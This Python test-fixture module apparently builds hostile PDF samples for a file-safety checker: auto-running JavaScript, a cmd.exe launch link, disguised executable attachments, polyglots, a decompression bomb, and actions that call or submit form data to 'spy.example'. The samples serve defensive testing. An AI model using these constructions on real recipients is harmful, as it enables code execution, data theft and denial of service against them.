"""PDFs sent in error or in malice, and some that only look so. Each function returns the bytes of one of them."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

from tests.hostile.files import good, make


def _pdf(change: Callable[[Any], None], **saving: Any) -> bytes:
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(good.pdf(1))) as document:
        change(document)
        document.save(out, **saving)
    return out.getvalue()


def _action(what: str, **fields: Any) -> Any:
    from pikepdf import Dictionary, Name

    return Dictionary(S=Name(f"/{what}"), **fields)


def _javascript() -> Any:
    return _action("JavaScript", JS="app.alert(1)")


def pdf_with_password(user: str = "secret") -> bytes:
    """Return a PDF that asks for a password (or, with an empty one, that only forbids printing)."""
    import pikepdf

    return _pdf(lambda _: None, encryption=pikepdf.Encryption(user=user, owner="owner"))


def pdf_with_javascript() -> bytes:
    """Return a PDF that runs a script when it opens."""
    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", _javascript()))


def pdf_with_named_javascript() -> bytes:
    """Return a PDF that keeps a script in its list of names."""
    from pikepdf import Array, Dictionary

    names = Dictionary(JavaScript=Dictionary(Names=Array(["start", _javascript()])))
    return _pdf(lambda pdf: pdf.Root.__setattr__("Names", names))


def pdf_with_javascript_at_last() -> bytes:
    """Return a PDF that first goes to a page and only then runs a script."""
    from pikepdf import Array

    chain = _action("GoTo", Next=Array([_action("Named"), _javascript()]))
    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", chain))


def pdf_with_javascript_on_page() -> bytes:
    """Return a PDF that runs a script when a page is shown."""
    from pikepdf import Dictionary

    return _pdf(lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=_javascript())))


def pdf_with_javascript_in_field() -> bytes:
    """Return a PDF with a form field that runs a script at every key."""
    from pikepdf import Array, Dictionary, Name

    def change(pdf: Any) -> None:
        child = pdf.make_indirect(Dictionary(T="child", AA=Dictionary(K=_javascript())))
        field = pdf.make_indirect(Dictionary(FT=Name.Tx, T="parent", Kids=Array([child])))
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    return _pdf(change)


def pdf_with_javascript_in_bookmark() -> bytes:
    """Return a PDF with a bookmark that runs a script; the bookmarks also run in a ring."""
    from pikepdf import Dictionary

    def change(pdf: Any) -> None:
        first = pdf.make_indirect(Dictionary(Title="1"))
        second = pdf.make_indirect(Dictionary(Title="2", A=_javascript(), Next=first))
        first.Next = second
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=first, Last=second, Count=2))

    return _pdf(change)


def pdf_that_launches() -> bytes:
    """Return a PDF with a link that starts a program."""
    from pikepdf import Array, Dictionary, Name

    def change(pdf: Any) -> None:
        link = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=_action("Launch", F="cmd.exe")
        )
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    return _pdf(change)


def pdf_with_attachment(name: str = "ดูภาพ.exe", content: bytes | None = None) -> bytes:
    """Return a PDF with a file attached: a program, unless its content is given."""
    return _pdf(lambda pdf: pdf.attachments.__setitem__(name, _attached(pdf, name, content)))


def _attached(pdf: Any, name: str, content: bytes | None = None) -> Any:
    from pikepdf import AttachedFileSpec

    return AttachedFileSpec(
        pdf,
        make.program() if content is None else content,
        description="",
        filename=name,
        mime_type="application/octet-stream",
        creation_date="",
        mod_date="",
    )


def pdf_with_attachment_on_page(name: str = "ดูภาพ.scr") -> bytes:
    """Return a PDF with a paper clip on a page."""
    from pikepdf import Array, Dictionary, Name

    def change(pdf: Any) -> None:
        attached = _attached(pdf, name).obj
        clip = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=attached)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(clip)])

    return _pdf(change)


def pdf_with_bookmarks_and_links() -> bytes:
    """Return a harmless PDF that opens at a page and links to an address: nothing to refuse."""
    from pikepdf import Array, Dictionary, Name

    def change(pdf: Any) -> None:
        away = _action("URI", URI="https://www.example.go.th/")
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=away)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])

    return _pdf(change)


def pdf_without_pages() -> bytes:
    """Return a PDF of no pages."""
    return _pdf(lambda pdf: pdf.pages.__delitem__(0))


def pdf_with_broken_table() -> bytes:
    """Return a PDF whose table of contents points elsewhere; nothing else is missing, and readers open it."""
    data = good.pdf(2)
    at = data.rfind(b"startxref")
    return data[:at] + b"startxref\n7\n%%EOF\n"


def pdf_and_page() -> bytes:
    """Return a PDF that is a web page as well: the page stands in a comment behind the first line."""
    first, rest = good.pdf(1).split(b"\n", 1)
    return first + b"\n%" + make.HTML.encode() + b"\n" + rest


def pdf_and_page_behind() -> bytes:
    """Return a PDF with a web page behind its end."""
    return good.pdf(1) + make.HTML.encode()


def page_and_pdf() -> bytes:
    """Return a web page with a PDF behind it, which some readers would open."""
    return make.HTML.encode() + good.pdf(1)


def pdf_and_zip() -> bytes:
    """Return a PDF with an archive behind it."""
    return good.pdf(1) + make.plain_zip()


def pdf_with_disguised_program(name: str = "อ่านก่อน.txt") -> bytes:
    """Return a PDF with a program attached under the name of a text, packed as PDFs pack things."""

    def change(pdf: Any) -> None:
        pdf.attachments[name] = _attached(pdf, name)

    return _pdf(change, compress_streams=True)


def pdf_that_calls() -> bytes:
    """Return a PDF that calls up an address as soon as it opens."""
    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", _action("URI", URI="https://spy.example/")))


def pdf_that_sends_its_form() -> bytes:
    """Return a PDF that sends what is in it when a page is shown."""
    from pikepdf import Dictionary

    action = _action("SubmitForm", F="https://spy.example/")
    return _pdf(lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=action)))


def pdf_with_script_link() -> bytes:
    """Return a PDF with a link that is a script."""
    from pikepdf import Array, Dictionary, Name

    def change(pdf: Any) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]),
                          A=_action("URI", URI="JavaScript:alert(1)"))  # fmt: skip
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    return _pdf(change)


def pdf_that_opens_what_it_holds() -> bytes:
    """Return a PDF that goes to another one inside it."""
    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", _action("GoToE", D=0)))


def pdf_of_xfa() -> bytes:
    """Return a PDF that is only the shell of an interactive form."""
    from pikepdf import Array, Dictionary

    def change(pdf: Any) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))

    return _pdf(change)


def pdf_with_film() -> bytes:
    """Return a PDF with a piece of rich media on its page."""
    from pikepdf import Array, Dictionary, Name

    def change(pdf: Any) -> None:
        film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(film)])

    return _pdf(change)


def pdf_bomb(unpacked: int = 600_000_000) -> bytes:
    """Return a PDF whose page unpacks to much more than any page is: nothing to see from outside."""
    import zlib

    packer = zlib.compressobj()
    zeros = b"q Q " * 250_000
    packed = b"".join(packer.compress(zeros) for _ in range(unpacked // len(zeros))) + packer.flush()

    def change(pdf: Any) -> None:
        from pikepdf import Name

        stream = pdf.make_stream(b"")
        stream.write(packed, filter=Name.FlateDecode)
        pdf.pages[0].obj.Contents = stream

    return _pdf(change)
